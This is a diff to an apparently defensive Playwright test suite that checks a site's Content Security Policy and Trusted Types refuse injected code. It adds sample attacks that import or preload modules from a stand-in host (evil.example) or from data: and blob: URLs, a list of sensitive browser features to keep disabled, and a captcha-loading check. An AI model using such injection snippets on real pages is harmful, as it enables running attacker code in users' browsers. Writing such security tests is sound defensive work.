@@ -2,15 +2,56 @@ import { createHash } from 'node:crypto';
 import { existsSync, readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 
+import type { Page } from '@playwright/test';
+
 import { THIRD_PARTIES } from '../support/addresses';
+import { SiteProcess } from '../support/delivery/site-process';
 import { expect, test } from '../support/visit';
 
 const DIST = join(import.meta.dirname, '../../dist');
 
 const CODE = 'DVDQDWM7GJ4R';
 
+/**
+ * Modules, which browsers ask no Trusted Types policy about. What is refused is known by the policy's
+ * complaint; the failed import itself would be told of later, at an uncertain time.
+ */
+const MODULES = {
+  'import a module from elsewhere': () => {
+    import(new URL('https://evil.example/x.js').href).catch(() => undefined);
+  },
+  'preload a module from elsewhere': () => {
+    const link = document.createElement('link');
+    link.rel = 'modulepreload';
+    link.href = 'https://evil.example/x.js';
+    document.head.append(link);
+  },
+  'import a module out of a text': () => {
+    import(new URL('data:text/javascript,window.isAttacked = true').href).catch(() => undefined);
+  },
+  'import a module out of a blob': () => {
+    const blob = new Blob(['window.isAttacked = true'], { type: 'text/javascript' });
+    import(URL.createObjectURL(blob)).catch(() => undefined);
+  },
+};
+
+/** Features of browsers that the site does without, and which an attacker would like best. */
+const SENSITIVE = [
+  ...[
+    'accelerometer',
+    'bluetooth',
+    'clipboard-read',
+    'display-capture',
+    'geolocation',
+    'gyroscope',
+  ],
+  ...['hid', 'idle-detection', 'local-fonts', 'magnetometer', 'microphone', 'midi', 'payment'],
+  ...['publickey-credentials-get', 'screen-wake-lock', 'serial', 'usb', 'xr-spatial-tracking'],
+];
+
 /** What the page may not do, each as an attack would try it. */
 const ATTACKS = {
+  ...MODULES,
   'load a script from elsewhere': () => {
     const script = document.createElement('script');
     script.src = 'https://evil.example/x.js';
@@ -113,20 +154,87 @@ test('I4 whatever a release loads later is named by its hash in what loads it', 
 for (const [attack, make] of Object.entries(ATTACKS)) {
   test(`I1 a page cannot ${attack}`, async ({ page, complaints }) => {
     await page.goto('/error');
-    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-    const asked: string[] = [];
-    await page.route('https://evil.example/**', async (route) => {
-      asked.push(route.request().url());
-      await route.abort();
-    });
 
-    await page.evaluate(make).catch(() => undefined);
-
-    await expect.poll(() => complaints.join()).toMatch(/Content Security Policy|Trusted|policy/);
-    expect(await page.evaluate(() => 'isAttacked' in window)).toBe(false);
-    expect(asked).toEqual([]);
-    complaints.length = 0;
+    await expectRefused(page, make, complaints);
   });
+}
+
+test('I1 a page that only reports Trusted Types loads modules from nowhere else either', async ({
+  page,
+  complaints,
+}) => {
+  const site = await SiteProcess.start(DIST, { TRUSTED_TYPES: 'report' });
+
+  for (const make of Object.values(MODULES)) {
+    // A new page for each: a browser may remember that the module of another attack was refused.
+    await page.goto(`${site.url}/error`);
+    await expectRefused(page, make, complaints);
+  }
+  await site.stop();
+});
+
+test('I1 a page runs a captcha that loads the rest of itself from another origin', async ({
+  page,
+  complaints,
+}) => {
+  const site = await SiteProcess.start(DIST, {
+    CAPTCHA_SCRIPT_URL: 'https://www.google.com/recaptcha/api.js',
+  });
+  const rest = 'https://www.gstatic.com/recaptcha/releases/1/recaptcha__en.js';
+  await page.route('https://www.google.com/recaptcha/api.js', (route) =>
+    route.fulfill({
+      contentType: 'text/javascript',
+      body: `document.head.append(Object.assign(document.createElement('script'), { src: '${rest}' }))`,
+    }),
+  );
+  await page.route(rest, (route) =>
+    route.fulfill({ contentType: 'text/javascript', body: 'window.isHuman = true' }),
+  );
+  await page.goto(`${site.url}/error`);
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+
+  await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.src = 'https://www.google.com/recaptcha/api.js';
+    document.head.append(script);
+  });
+
+  await page.waitForFunction(() => 'isHuman' in window);
+  expect(complaints.filter((complaint) => complaint.includes('policy'))).toEqual([]);
+  complaints.length = 0;
+  await site.stop();
+});
+
+test('I1 a page may use those features of the browser that it needs', async ({ page }) => {
+  await page.goto('/error');
+
+  const allowed = await page.evaluate(() => {
+    const { featurePolicy } = document as unknown as {
+      featurePolicy: { allowedFeatures: () => string[] };
+    };
+    return featurePolicy.allowedFeatures();
+  });
+
+  // Not all that are allowed: the next version of the browser may know a feature more.
+  expect(allowed).toEqual(expect.arrayContaining(['autoplay', 'camera', 'clipboard-write']));
+  expect(allowed.filter((name) => SENSITIVE.includes(name))).toEqual([]);
+});
+
+async function expectRefused(page: Page, make: () => void, complaints: string[]): Promise<void> {
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+  const asked: string[] = [];
+  await page.route('https://evil.example/**', async (route) => {
+    asked.push(route.request().url());
+    await route.abort();
+  });
+  complaints.length = 0;
+
+  await page.evaluate(make).catch(() => undefined);
+
+  await expect.poll(() => complaints.join()).toMatch(/Content Security Policy|Trusted|policy/);
+  expect(await page.evaluate(() => 'isAttacked' in window)).toBe(false);
+  expect(asked).toEqual([]);
+  complaints.length = 0;
 }
 
 /** The folders of the versions below `dist/`; `*` stands for every name. */
